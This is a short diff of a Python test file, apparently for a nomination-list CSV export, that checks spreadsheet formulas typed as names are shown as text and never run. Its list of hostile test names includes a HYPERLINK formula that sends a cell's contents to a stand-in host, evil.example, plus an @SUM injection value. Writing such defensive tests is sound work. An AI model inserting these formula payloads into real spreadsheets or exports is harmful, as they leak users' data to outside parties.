@@ -285,7 +285,7 @@ HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?d="&C2,"x")', "@SUM(A1:A2)", 
 
 
 def test_the_list_in_the_package_carries_no_formula(seal, secretary, dossiers):
-    """Issue #16, security: danh-sach.csv opened in a spreadsheet at the Ministry must show the
+    """Security: danh-sach.csv opened in a spreadsheet at the Ministry must show the
     names the units typed, never run them (OWASP CSV injection, as the Excel exports)."""
     for nomination, name in zip(dossiers.values(), HOSTILE_NAMES, strict=False):
         nomination.nominee_name = name
